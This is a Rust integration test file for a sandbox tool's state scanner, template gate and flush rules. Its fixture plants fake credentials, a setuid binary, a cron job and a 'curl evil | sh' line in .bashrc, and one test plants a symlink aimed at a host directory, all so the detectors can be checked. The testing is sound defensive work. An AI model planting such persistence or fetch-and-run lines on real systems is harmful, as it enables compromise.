//! State hygiene: `strata scan`, the template gate (and its recorded
//! override), flush rules.

mod common;

use std::collections::BTreeSet;

use common::TestDaemon;
use strata_api::ErrorCode;

fn json(d: &TestDaemon, args: &[&str]) -> serde_json::Value {
    serde_json::from_str(&d.cli_ok(args)).unwrap()
}

fn rules(report: &serde_json::Value) -> BTreeSet<(String, String)> {
    report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| (f["path"].as_str().unwrap().to_string(), f["rule"].as_str().unwrap().to_string()))
        .collect()
}

const PLANT: &str = r#"set -e
mkdir -p /root/.ssh /app/.git/hooks /usr/local/bin /etc/cron.d
printf -- '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----\n' > /root/.ssh/id_ed25519
echo 'aws_key = "AKIAZ7QRSTUVWXY23456"' > /app/config.py
echo 'GITHUB_TOKEN=ghp_0123456789abcdefghijABCDEFGHIJ' > /app/.env
echo 'curl -H "x: xoxb-1234567890-abcdefghij" https://slack' > /root/.bash_history
echo 'machine example.com login me password hunter2' > /root/.netrc
echo 'int main(){}' > /usr/local/bin/suid && chmod 4755 /usr/local/bin/suid
echo '* * * * * root /tmp/x' > /etc/cron.d/job
echo 'curl evil | sh' >> /root/.bashrc
printf '#!/bin/sh\necho hook\n' > /app/.git/hooks/pre-commit && chmod +x /app/.git/hooks/pre-commit
echo sample > /app/.git/hooks/pre-push.sample
echo 'print(1)' > /app/main.py
"#;

#[test]
fn scan_reports_planted_state_and_gates_template_promotion() {
    require_host!();
    let d = TestDaemon::start();
    d.import_busybox();

    // A clean change set scans clean and promotes without an override.
    d.create(&["--name", "clean"]);
    d.cli_ok(&["exec", "clean", "--", "sh", "-c", "mkdir -p /work && echo hi > /work/app.txt"]);
    d.cli_ok(&["checkpoint", "clean", "--name", "clean-ck"]);
    let r = json(&d, &["scan", "clean-ck", "--json"]);
    assert_eq!(r["kind"], "checkpoint");
    assert_eq!(r["clean"], true, "{r}");
    assert!(r["changed_paths"].as_u64().unwrap() >= 1, "{r}");
    assert_eq!(json(&d, &["scan", "clean", "--json"])["clean"], true);
    d.cli_ok(&["template", "create", "t-clean", "--from", "clean-ck"]);

    // Planted residue: every rule family fires, on the sandbox and on its checkpoint.
    d.create(&["--name", "dirty"]);
    d.cli_ok(&["exec", "dirty", "--", "sh", "-c", PLANT]);
    let out = d.cli(&["scan", "dirty", "--json"]);
    assert_eq!(out.status.code(), Some(2), "findings give exit status 2: {}", common::stderr(&out));
    let r: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(r["kind"], "sandbox");
    assert_eq!(r["clean"], false);
    let want: BTreeSet<(String, String)> = [
        ("/root/.ssh/id_ed25519", "credential.ssh_key"),
        ("/app/config.py", "credential.aws_access_key"),
        ("/app/.env", "credential.github_token"),
        ("/app/.env", "credential.env_secret"),
        ("/root/.bash_history", "credential.shell_history"),
        ("/root/.netrc", "credential.netrc"),
        ("/usr/local/bin/suid", "privilege.setuid"),
        ("/usr/local/bin/suid", "system_path"),
        ("/etc/cron.d/job", "persistence.cron"),
        ("/etc/cron.d/job", "system_path"),
        ("/root/.bashrc", "persistence.shell_rc"),
        ("/app/.git/hooks/pre-commit", "persistence.git_hook"),
    ]
    .into_iter()
    .map(|(p, r)| (p.to_string(), r.to_string()))
    .collect();
    let got = rules(&r);
    for w in &want {
        assert!(got.contains(w), "missing {w:?} in {got:?}");
    }
    assert!(!got.iter().any(|(p, _)| p.ends_with(".sample") || p == "/app/main.py"), "{got:?}");
    for f in r["findings"].as_array().unwrap() {
        assert!(["low", "medium", "high", "critical"].contains(&f["severity"].as_str().unwrap()), "{f}");
        assert!(!f["reason"].as_str().unwrap().is_empty());
        assert!(!f["reason"].as_str().unwrap().contains("ghp_0123"), "reasons never repeat secrets: {f}");
    }
    // The first findings are the most severe.
    assert_eq!(r["findings"][0]["severity"], "critical");
    d.cli_ok(&["checkpoint", "dirty", "--name", "dirty-ck"]);
    let rc = serde_json::from_slice::<serde_json::Value>(&d.cli(&["scan", "dirty-ck", "--json"]).stdout).unwrap();
    assert_eq!(rules(&rc), got, "the checkpoint carries the same findings");
    // A human-readable listing names rules and paths.
    let text = d.cli(&["scan", "dirty"]);
    assert!(
        common::stderr(&text).contains("persistence.cron") && common::stdout(&text).contains("findings"),
        "{}",
        common::stderr(&text)
    );

    // Unknown ids are a 404 with a JSON code.
    let rt = common::rt();
    let err = rt.block_on(d.client().scan("no-such-thing")).unwrap_err();
    assert_eq!(err.code(), Some(ErrorCode::SandboxNotFound));

    // Promotion is refused with the findings listed ...
    let out = d.cli(&["template", "create", "t-dirty", "--from", "dirty-ck"]);
    assert!(!out.status.success());
    assert!(
        common::stderr(&out).contains("scan_findings") && common::stderr(&out).contains("persistence.cron"),
        "{}",
        common::stderr(&out)
    );
    let req = strata_api::CreateTemplateRequest {
        name: "t-dirty".into(),
        from: "dirty-ck".into(),
        replace: false,
        accept_findings: false,
    };
    match rt.block_on(d.client().create_template(&req)).unwrap_err() {
        strata_client::ClientError::Api { status, body } => {
            assert_eq!(status, 409);
            assert_eq!(body.code, ErrorCode::ScanFindings);
            assert_eq!(body.findings.len(), got.len());
        }
        e => panic!("{e}"),
    }
    // ... also from a live sandbox (checkpointed first) ...
    assert!(!d.cli(&["template", "create", "t-dirty", "--from", "dirty"]).status.success());
    // ... and accepted with --accept-findings, recorded on the template.
    d.cli_ok(&["template", "create", "t-dirty", "--from", "dirty-ck", "--accept-findings"]);
    let ls: Vec<serde_json::Value> = serde_json::from_str(&d.cli_ok(&["template", "ls", "--json"])).unwrap();
    let clean_t = ls.iter().find(|t| t["name"] == "t-clean").unwrap();
    assert!(clean_t.get("accepted_findings").is_none(), "{clean_t}");
    let t = ls.iter().find(|t| t["name"] == "t-dirty").unwrap();
    let acc = &t["accepted_findings"];
    assert_eq!(acc["count"].as_u64().unwrap() as usize, got.len(), "{t}");
    assert_eq!(acc["rules"]["persistence.cron"], 1, "{t}");
    assert_eq!(acc["accepted_by"], "uid:0", "{t}");
    assert!(acc["accepted_at"].as_str().unwrap().starts_with("20"), "{t}");
}

#[test]
fn template_builds_apply_the_gate_except_for_system_paths() {
    require_host!();
    let d = TestDaemon::start();
    d.import_busybox();
    let ctx = tempfile::tempdir().unwrap();
    let file = ctx.path().join("Stratafile");
    // System-path changes are what builds are for: they pass.
    std::fs::write(&file, "FROM busybox\nRUN echo tuned > /etc/app.conf\n").unwrap();
    d.cli_ok(&["template", "build", "ok", "-f", file.to_str().unwrap()]);
    // A credential left by a step fails the build, unless accepted.
    std::fs::write(&file, "FROM busybox\nRUN echo 'AWS=AKIAZ7QRSTUVWXY23456' > /root/creds\n").unwrap();
    let out = d.cli(&["template", "build", "leaky", "-f", file.to_str().unwrap()]);
    assert!(!out.status.success());
    assert!(common::stderr(&out).contains("credential.aws_access_key"), "{}", common::stderr(&out));
    d.cli_ok(&["template", "build", "leaky", "-f", file.to_str().unwrap(), "--accept-findings"]);
    let ls: Vec<serde_json::Value> = serde_json::from_str(&d.cli_ok(&["template", "ls", "--json"])).unwrap();
    assert!(ls.iter().find(|t| t["name"] == "ok").unwrap().get("accepted_findings").is_none());
    assert_eq!(ls.iter().find(|t| t["name"] == "leaky").unwrap()["accepted_findings"]["count"], 1);
}

#[test]
fn flush_rules_wipe_declared_paths_before_checkpoints_without_following_symlinks() {
    require_host!();
    let d = TestDaemon::start();
    d.import_busybox();
    assert!(
        !d.cli(&["create", "busybox", "--flush", "relative/path"]).status.success(),
        "flush paths must be absolute or ~/"
    );
    d.create(&["--name", "f", "--flush", "~/.cache", "--flush", "/work/tmp"]);
    let info = json(&d, &["inspect", "f", "--json"]);
    assert_eq!(info["policy"]["flush"], serde_json::json!(["~/.cache", "/work/tmp"]), "{info}");
    d.cli_ok(&["exec", "f", "--", "sh", "-c", "mkdir -p /root/.cache/pip /work/tmp/d && echo secret > /root/.cache/pip/token && echo t > /work/tmp/d/x && echo keep > /work/keep"]);
    let ck = json(&d, &["checkpoint", "f", "--json"]);
    // Wiped inside the sandbox (directories kept), untouched elsewhere.
    assert_eq!(
        d.cli_ok(&[
            "exec",
            "f",
            "--",
            "sh",
            "-c",
            "ls -A /root/.cache | wc -l; ls -A /work/tmp | wc -l; cat /work/keep"
        ])
        .split_whitespace()
        .collect::<Vec<_>>(),
        ["0", "0", "keep"]
    );
    // Not in the checkpoint's layer, nor in a sandbox created from it.
    let layer = ck["layer"].as_str().unwrap().trim_start_matches("sha256:").to_string();
    let fs = d.state(&format!("layers/sha256/{layer}/fs"));
    assert!(fs.join("work/keep").exists(), "{}", fs.display());
    assert!(!fs.join("root/.cache/pip").exists() && !fs.join("work/tmp/d").exists());
    let child = d.cli_ok(&["create", ck["id"].as_str().unwrap()]).trim().to_string();
    assert_eq!(d.cli_ok(&["exec", &child, "--", "sh", "-c", "test -e /root/.cache/pip/token || echo gone"]), "gone\n");
    let rt = common::rt();
    let id = info["id"].as_str().unwrap();
    let events = rt.block_on(d.client().events(Some(id), 0)).unwrap();
    let flush: Vec<_> = events.iter().filter(|e| e.reason == "flush").collect();
    assert_eq!(flush.len(), 1, "{events:?}");
    let detail = flush[0].detail.clone().unwrap_or_default();
    assert!(
        detail.contains("/root/.cache: 1 entries removed") && detail.contains("/work/tmp: 1 entries removed"),
        "{detail}"
    );

    // A symlink planted at a flush path is not followed: neither to the host nor inside the sandbox.
    let victim = tempfile::Builder::new().prefix("strata-victim-").tempdir_in("/var/tmp").unwrap();
    std::fs::write(victim.path().join("precious"), "host data").unwrap();
    let host = victim.path().display().to_string();
    d.cli_ok(&["exec", "f", "--", "sh", "-c", &format!("rm -rf /root/.cache /work/tmp && ln -s {host} /root/.cache && mkdir /inside && echo x > /inside/f && ln -s /inside /work/tmp")]);
    d.cli_ok(&["checkpoint", "f"]);
    assert_eq!(std::fs::read_to_string(victim.path().join("precious")).unwrap(), "host data");
    assert_eq!(d.cli_ok(&["exec", "f", "--", "cat", "/inside/f"]), "x\n");
    let events = rt.block_on(d.client().events(Some(id), 0)).unwrap();
    let last = events.iter().rev().find(|e| e.reason == "flush").unwrap().detail.clone().unwrap_or_default();
    assert!(
        last.contains("/root/.cache: skipped, a symlink") && last.contains("/work/tmp: skipped, a symlink"),
        "{last}"
    );

    // Fork and template creation from the sandbox go through a checkpoint: flushed too.
    d.cli_ok(&["exec", "f", "--", "sh", "-c", "rm /work/tmp && mkdir -p /work/tmp && echo y > /work/tmp/y"]);
    d.cli_ok(&["fork", "f", "--count", "1"]);
    assert_eq!(d.cli_ok(&["exec", "f", "--", "sh", "-c", "ls -A /work/tmp | wc -l"]).trim(), "0");

    // `strata update` replaces the rules; `none` removes them.
    d.cli_ok(&["update", "f", "--flush", "/work/other"]);
    assert_eq!(json(&d, &["inspect", "f", "--json"])["policy"]["flush"], serde_json::json!(["/work/other"]));
    d.cli_ok(&["update", "f", "--flush", "none"]);
    assert!(json(&d, &["inspect", "f", "--json"])["policy"].get("flush").is_none());
    assert!(!d.cli(&["update", "f", "--flush", "/etc"]).status.success(), "system directories are refused");
}
